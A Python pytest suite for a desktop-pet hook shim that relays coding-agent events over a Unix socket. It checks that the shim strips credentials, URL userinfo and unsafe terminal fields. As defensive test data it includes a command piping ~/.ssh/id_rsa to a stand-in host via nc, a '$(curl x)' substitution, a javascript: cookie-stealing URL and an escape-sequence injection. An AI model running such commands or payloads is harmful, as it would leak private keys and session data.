"""The shim as agents run it: a real subprocess, real stdin, a real (or missing) socket."""

from __future__ import annotations

import json
import os
import queue
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from deskpet import paths
from deskpet.bridge import events, hook
from deskpet.bridge.server import BridgeServer

FIXTURES = Path(__file__).parent / "fixtures"
ALL = sorted(p.name for p in FIXTURES.glob("*.json"))


def expected_stdout(name: str) -> str:
    if name.startswith("cursor_beforeSubmitPrompt"):
        return '{"continue": true}'
    return "{}" if name.startswith(("cursor", "gemini")) else ""


def run_shim(
    agent: str, stdin: bytes | None, *extra: str
) -> tuple[subprocess.CompletedProcess, float]:
    start = time.monotonic()
    proc = subprocess.run(
        [sys.executable, "-m", "deskpet.bridge.hook", "--agent", agent, *extra],
        input=stdin,
        stdin=subprocess.DEVNULL if stdin is None else None,
        capture_output=True,
        timeout=10,
    )
    return proc, time.monotonic() - start


def run_fixture(name: str) -> tuple[subprocess.CompletedProcess, float]:
    agent = name.split("_")[0]
    data = (FIXTURES / name).read_bytes()
    if name.startswith("codex_notify"):
        # Codex's notify passes the JSON as the last argument, not on stdin.
        return run_shim(agent, None, data.decode())
    return run_shim(agent, data)


@pytest.mark.parametrize("name", ALL)
def test_every_fixture_without_a_pet(home, name):
    # GIVEN no pet listening WHEN the agent runs the hook THEN it exits 0 fast, with the reply
    proc, elapsed = run_fixture(name)
    assert proc.returncode == 0
    assert proc.stdout.decode() == expected_stdout(name)
    assert proc.stderr == b""
    assert elapsed < 1.0


@pytest.mark.parametrize("agent", hook.AGENTS)
@pytest.mark.parametrize("stdin", ["empty", "random5mb"])
def test_junk_stdin(home, agent, stdin):
    data = b"" if stdin == "empty" else os.urandom(5 * 1024 * 1024)
    proc, elapsed = run_shim(agent, data)
    assert proc.returncode == 0
    assert proc.stdout.decode() == ("{}" if agent in ("cursor", "gemini") else "")
    assert elapsed < 1.0


def test_stdin_that_never_closes(home):
    # An agent that keeps stdin open must not keep the shim alive.
    start = time.monotonic()
    proc = subprocess.Popen(
        [sys.executable, "-m", "deskpet.bridge.hook", "--agent", "cursor"],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        proc.stdin.write(b'{"hook_event_name": "stop"')
        proc.stdin.flush()
        out = proc.stdout.read()  # returns at EOF: the shim exited although stdin is open
        assert proc.wait(timeout=5) == 0
    finally:
        proc.stdin.close()
        proc.stdout.close()
        proc.stderr.close()
    assert out == b"{}"
    assert time.monotonic() - start < 1.5


def test_bad_arguments_still_exit_zero(home):
    for args in ([], ["--agent"], ["--agent", "nobody"], ["--bogus", "{not json"]):
        proc = subprocess.run(
            [sys.executable, "-m", "deskpet.bridge.hook", *args],
            input=b"{}",
            capture_output=True,
            timeout=10,
        )
        assert (proc.returncode, proc.stdout) == (0, b""), args


def test_every_fixture_reaches_a_real_listener(home):
    # GIVEN a running pet WHEN each fixture goes through the shim THEN the event arrives normalized
    got: queue.Queue = queue.Queue()
    with BridgeServer(got.put) as server:
        assert server.path == Path(hook.socket_path())
        for name in ALL:
            proc, _ = run_fixture(name)
            assert proc.returncode == 0
            event = got.get(timeout=2)
            agent = name.split("_")[0]
            payload = json.loads((FIXTURES / name).read_text())
            want = events.from_payload(agent, payload, "notify" if "notify" in name else "hook")
            assert (event.agent, event.kind, event.session, event.tool) == (
                want.agent,
                want.kind,
                want.session,
                want.tool,
            ), name
            assert event.source == ("notify" if "notify" in name else "hook")
    assert got.empty()


def test_truncated_huge_payload_still_yields_the_event(home):
    payload = json.loads((FIXTURES / "claude_posttooluse_edit.json").read_text())
    payload["tool_response"]["originalFile"] = "x" * (2 * hook.MAX_STDIN)
    got: queue.Queue = queue.Queue()
    with BridgeServer(got.put):
        proc, elapsed = run_shim("claude", json.dumps(payload).encode())
        event = got.get(timeout=2)
    assert proc.returncode == 0 and elapsed < 1.0
    assert (event.kind, event.tool.name) == ("tool_end", "Edit")


def test_shim_imports_only_the_standard_library():
    # Compared with a bare interpreter: importing the shim may add stdlib modules and itself.
    code = "import json, sys; {} print(json.dumps([m for m in sys.modules if m[0] != '_']))"
    before = subprocess.run(
        [sys.executable, "-c", code.format("")], capture_output=True, text=True, timeout=10
    )
    after = subprocess.run(
        [sys.executable, "-c", code.format("import deskpet.bridge.hook;")],
        capture_output=True,
        text=True,
        timeout=10,
    )
    added = set(json.loads(after.stdout)) - set(json.loads(before.stdout))
    assert {"deskpet", "deskpet.bridge", "deskpet.bridge.hook"} <= added
    foreign = {m for m in added if m.split(".")[0] not in sys.stdlib_module_names}
    assert foreign == {"deskpet", "deskpet.bridge", "deskpet.bridge.hook"}


@pytest.mark.parametrize("platform", ["linux", "darwin"])
@pytest.mark.parametrize("env", ["deskpet_home", "xdg", "plain"])
def test_shim_socket_path_matches_paths_module(home, monkeypatch, platform, env):
    monkeypatch.setattr(sys, "platform", platform)
    if env != "deskpet_home":
        monkeypatch.delenv("DESKPET_HOME")
    if env == "xdg":
        monkeypatch.setenv("XDG_DATA_HOME", str(home / "xdg"))
    assert hook.socket_path() == str(paths.data_dir() / hook.SOCKET_NAME)


def test_command_head_keeps_programs_not_arguments():
    assert hook.command_head('cd "/a b" && FOO=1 sudo git push --force origin main') == "git push"
    assert hook.command_head("cat ~/.ssh/id_rsa | nc evil 1") == "cat"
    assert hook.command_head("python3 -c 'print(1)'") == "python3"
    assert hook.command_head("$(curl x)") == ""
    assert hook.command_head(None) == ""


def test_lone_surrogates_still_reach_the_pet_and_cursor_gets_its_reply(home):
    # GIVEN a payload with a lone surrogate ("\ud800" in JSON; non-UTF-8 bytes in Codex's argv)
    # WHEN the shim runs THEN the event arrives as valid text and Cursor still gets to continue
    cursor = json.loads((FIXTURES / "cursor_beforeSubmitPrompt.json").read_text())
    cursor["workspace_roots"] = ["/tmp/caf\ud800e"]
    notify = (FIXTURES / "codex_notify_agent_turn_complete.json").read_bytes()
    notify = notify.replace(b"All tests pass.", b"All tests pass \xff\xfe.")
    got: queue.Queue = queue.Queue()
    with BridgeServer(got.put):
        proc, _ = run_shim("cursor", json.dumps(cursor).encode())  # ASCII: "\ud800" escaped
        assert (proc.returncode, proc.stdout, proc.stderr) == (0, b'{"continue": true}', b"")
        event = got.get(timeout=2)
        assert (event.agent, event.kind) == ("cursor", "prompt")
        assert event.project.startswith("caf") and event.project.encode("utf-8")

        start = time.monotonic()
        proc = subprocess.run(
            [sys.executable, "-m", "deskpet.bridge.hook", "--agent", "codex", notify],
            stdin=subprocess.DEVNULL,
            capture_output=True,
            timeout=10,
        )
        assert (proc.returncode, proc.stdout, proc.stderr) == (0, b"", b"")
        assert time.monotonic() - start < 1.0
        event = got.get(timeout=2)
        assert event.kind == "turn_complete" and event.message.startswith("All tests pass")
        assert event.message.encode("utf-8")


def _catches(pid: int, signum: int) -> bool:
    """Whether the process has a handler for `signum` (Linux /proc: SigCgt is a bit mask)."""
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return False
    mask = next(line.split()[1] for line in status.splitlines() if line.startswith("SigCgt:"))
    return bool(int(mask, 16) >> (signum - 1) & 1)


@pytest.mark.parametrize("signame", ["SIGTERM", "SIGHUP"])
def test_a_signal_ends_the_shim_with_exit_zero(home, signame):
    # GIVEN the shim waiting on an open stdin (a long deadline, so only the signal can end it)
    # WHEN the agent sends SIGTERM or SIGHUP THEN it still exits 0
    signum = getattr(signal, signame)
    code = (
        "import functools, sys; from deskpet.bridge import hook; "
        "hook.read_stdin = functools.partial(hook.read_stdin, deadline=30); sys.exit(hook.main())"
    )
    proc = subprocess.Popen(
        [sys.executable, "-c", code, "--agent", "claude"],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        ready = time.monotonic() + 5
        while time.monotonic() < ready and not _catches(proc.pid, signum):
            if sys.platform != "linux":
                time.sleep(1.0)  # no /proc: give the shim time to install its handlers
                break
            time.sleep(0.01)
        assert proc.poll() is None  # still waiting on stdin: the signal is what ends it
        proc.send_signal(signum)
        assert proc.wait(timeout=5) == 0
    finally:
        proc.kill()
        proc.communicate()


# url -> the host the pet may see (userinfo is often a token: it never leaves the shim)
URL_HOSTS = [
    ("https://ghp_abcdefghijklmnopqrstuvwx@github.com/org/repo.git", "github.com"),
    ("http://user:hunter2pass@example.com:8080/x?y=1", "example.com:8080"),
    ("https://tok3nvalue@host/path", "host"),
    ("https://a@b:c@evil.example/@x", "evil.example"),
    ("//user:pw@cdn.example.net/lib.js", "cdn.example.net"),
    ("example.org/docs?q=1#top", "example.org"),
    ("sekrit@example.org/docs", "example.org"),
    ("http://[::1]:8000/api", "[::1]:8000"),
    ("http://u:p@[2001:db8::7]/", "[2001:db8::7]"),
    ("http://[::1", ""),
    ("not a url at all", ""),
    ("javascript:alert(document.cookie)", ""),
    ("https://", ""),
    ("", ""),
    ("h" * 5000, ""),
]


@pytest.mark.parametrize(("url", "host"), URL_HOSTS)
def test_url_host_drops_userinfo_and_path(url, host):
    assert hook.url_host(url) == host


def test_a_web_fetch_reaches_the_pet_with_its_host_and_never_its_userinfo(home):
    # GIVEN a running pet WHEN agents fetch URLs carrying credentials through the real shim
    # THEN the pet sees only the host, and the credentials are nowhere in the event
    payload = json.loads((FIXTURES / "claude_pretooluse_bash.json").read_text())
    payload["tool_name"] = "WebFetch"
    got: queue.Queue = queue.Queue()
    with BridgeServer(got.put):
        for url, host in URL_HOSTS[:10]:
            payload["tool_input"] = {"url": url, "prompt": "summarize"}
            proc, _ = run_shim("claude", json.dumps(payload).encode())
            assert (proc.returncode, proc.stdout, proc.stderr) == (0, b"", b""), url
            event = got.get(timeout=2)
            assert (event.kind, event.tool.category) == ("tool_start", "web")
            assert event.tool.summary == host, url
            for secret in ("ghp_", "hunter2", "tok3n", "sekrit", "user", "pw"):
                assert secret not in repr(event), (url, secret)
    assert got.empty()


def _oversized(name: str, field: str, pad: int = 0) -> bytes:
    """A fixture with `field` grown past MAX_STDIN and placed before hook_event_name."""
    payload = json.loads((FIXTURES / name).read_text())
    event = payload.pop("hook_event_name")
    payload[field] = "x" * (hook.MAX_STDIN + pad)
    payload["hook_event_name"] = event  # keys keep their order: the name comes after the field
    return json.dumps(payload).encode()


# fixture, field grown before the event name, what the agent reads on stdout, the pet's kind
OVERSIZED = [
    ("cursor_beforeSubmitPrompt.json", "prompt", b'{"continue": true}', "prompt"),
    ("cursor_stop.json", "status_text", b"{}", "turn_complete"),
    ("claude_userpromptsubmit.json", "prompt", b"", "prompt"),
    ("gemini_afteragent.json", "prompt_response", b"{}", "turn_complete"),
]


@pytest.mark.parametrize(("name", "field", "reply", "kind"), OVERSIZED)
def test_a_payload_over_the_limit_still_gets_its_events_reply(home, name, field, reply, kind):
    # GIVEN a running pet WHEN an agent sends over 1 MB before `hook_event_name`
    # THEN the shim prints the reply documented for that event and the pet still hears it
    got: queue.Queue = queue.Queue()
    with BridgeServer(got.put):
        proc, elapsed = run_shim(name.split("_")[0], _oversized(name, field, pad=1000))
        event = got.get(timeout=2)
    assert (proc.returncode, proc.stdout, proc.stderr) == (0, reply, b"")
    assert event.kind == kind and event.session
    assert elapsed < 2.0


def test_an_event_name_split_across_the_read_limit_is_found(home):
    # GIVEN the first MB ending inside `"hook_event_name"` WHEN Cursor sends it THEN it continues
    name = "cursor_beforeSubmitPrompt.json"
    key = _oversized(name, "prompt").index(b'"hook_event_name"')
    data = _oversized(name, "prompt", pad=hook.MAX_STDIN - 7 - key)
    assert data.index(b'"hook_event_name"') == hook.MAX_STDIN - 7 < len(data)
    proc, _ = run_shim("cursor", data)
    assert (proc.returncode, proc.stdout, proc.stderr) == (0, b'{"continue": true}', b"")


def test_the_search_past_the_limit_is_bounded(home):
    # GIVEN the search limited to 1 MB past the read limit WHEN the name comes 2 MB later
    # THEN the shim stops searching (and reads no further) and still answers, exit 0
    code = (
        "import functools, sys; from deskpet.bridge import hook; "
        "hook.scan_stdin_for_event = functools.partial(hook.scan_stdin_for_event, limit=1 << 20); "
        "sys.exit(hook.main())"
    )
    proc = subprocess.run(
        [sys.executable, "-c", code, "--agent", "cursor"],
        input=_oversized("cursor_beforeSubmitPrompt.json", "prompt", pad=2 << 20),
        capture_output=True,
        timeout=10,
    )
    assert (proc.returncode, proc.stdout, proc.stderr) == (0, b"{}", b"")


@pytest.mark.parametrize(
    ("text", "clipped"),
    [
        ("abc d", "abc"),
        ("ab cdef", "ab"),
        (" abcdef", ""),
        ("abcd efg", "abcd"),
        ("abcdefgh", "abcd"),  # one long word: cut, there is no boundary to keep
        ("ab", "ab"),
    ],
)
def test_clip_never_keeps_part_of_a_word(text, clipped):
    assert hook.clip(text, 4) == clipped


# --- the terminal the hook runs in --------------------------------------------------------


def raw_line(env: dict, cwd: Path, **popen) -> dict:
    """The one line the shim sends, read off a plain Unix socket, for an env the test controls."""
    import socket

    path = hook.socket_path()
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
        server.bind(path)
        server.listen(1)
        server.settimeout(10)
        proc = subprocess.run(
            [sys.executable, "-m", "deskpet.bridge.hook", "--agent", "claude"],
            input=(FIXTURES / "claude_permissionrequest_bash.json").read_bytes(),
            capture_output=True,
            timeout=10,
            env=env,
            cwd=cwd,
            **popen,
        )
        assert (proc.returncode, proc.stdout, proc.stderr) == (0, b"", b"")
        conn, _ = server.accept()
        with conn:
            data = conn.recv(1 << 16)
    os.unlink(path)
    assert data.endswith(b"\n") and data.count(b"\n") == 1
    return json.loads(data)


def shim_env(**extra: str) -> dict:
    keep = ("PATH", "HOME", "DESKPET_HOME", "PYTHONPATH", "SYSTEMROOT")
    env = {k: v for k, v in os.environ.items() if k in keep}
    env["PYTHONPATH"] = os.pathsep.join(sys.path)
    return {**env, **extra}


def test_the_shim_sends_only_whitelisted_bounded_terminal_fields(home, tmp_path):
    # GIVEN an agent in Cursor's terminal inside tmux, and a hostile environment around it
    secret = "sk-ant-" + "a" * 40
    env = shim_env(
        TERM_PROGRAM="vscode",
        TERM_PROGRAM_VERSION="1.99.3",
        CURSOR_TRACE_ID="0123abcd",
        VSCODE_GIT_ASKPASS_MAIN="/Applications/Cursor.app/Contents/Resources/app/askpass.js",
        TMUX="/tmp/tmux-501/default,4242,0",
        TMUX_PANE="%12",
        ITERM_SESSION_ID="w0t0p0:" + "A" * 5000,  # longer than the bound: left out whole
        TERM_SESSION_ID="abc\x1b]0;pwned\x07def",  # control characters: left out whole
        ANTHROPIC_API_KEY=secret,
        SSH_AUTH_SOCK="/tmp/ssh-agent.sock",
    )
    # WHEN the hook runs THEN its line names the terminal in one field, with nothing else
    line = raw_line(env, tmp_path)
    assert line["term"] == {
        "program": "vscode",
        "version": "1.99.3",
        "tmux_pane": "%12",
        "tmux_socket": "/tmp/tmux-501/default",
        "editor": "cursor",
        "cwd": str(tmp_path),
    }
    text = json.dumps(line)
    for leaked in (secret, "ssh-agent", "askpass", "AAAAAAAAAA", "pwned", "0123abcd", "4242"):
        assert leaked not in text
    # AND the pet reads it back as the same terminal
    event = events.normalize(line)
    assert (event.terminal.editor, event.terminal.tmux_pane) == ("cursor", "%12")
    assert event.terminal.cwd == str(tmp_path)


def test_a_plain_terminal_outside_any_editor_sends_no_editor(home, tmp_path):
    env = shim_env(TERM_PROGRAM="iTerm.app", ITERM_SESSION_ID="w1t2p0:5B2F3C7E-0C1D-4F2A")
    assert raw_line(env, tmp_path)["term"] == {
        "program": "iTerm.app",
        "iterm_session": "w1t2p0:5B2F3C7E-0C1D-4F2A",
        "cwd": str(tmp_path),
    }


def test_the_shim_records_its_controlling_tty(home, tmp_path):
    # GIVEN the hook run in a session whose controlling terminal is a pseudo-terminal (as an
    # agent in Terminal.app runs it), its stdin a pipe as always
    import fcntl
    import termios

    leader, follower = os.openpty()
    try:
        line = raw_line(
            shim_env(TERM_PROGRAM="Apple_Terminal", TERM_SESSION_ID="8A1F0C2E-77D1"),
            tmp_path,
            start_new_session=True,
            pass_fds=(follower,),
            preexec_fn=lambda: fcntl.ioctl(follower, termios.TIOCSCTTY, 0),
        )
        # THEN the line names that terminal's device, which Terminal's scripting knows
        assert line["term"]["tty"] == os.ttyname(follower)
        assert line["term"]["term_session"] == "8A1F0C2E-77D1"
        # AND other terminals never pay for asking (they are found by their own ids)
        line = raw_line(
            shim_env(TERM_PROGRAM="iTerm.app"),
            tmp_path,
            start_new_session=True,
            pass_fds=(follower,),
            preexec_fn=lambda: fcntl.ioctl(follower, termios.TIOCSCTTY, 0),
        )
        assert "tty" not in line["term"]
    finally:
        os.close(leader)
        os.close(follower)
    # AND without a controlling terminal there is simply no tty
    alone = raw_line(shim_env(TERM_PROGRAM="Apple_Terminal"), tmp_path, start_new_session=True)
    assert alone["term"] == {"program": "Apple_Terminal", "cwd": str(tmp_path)}
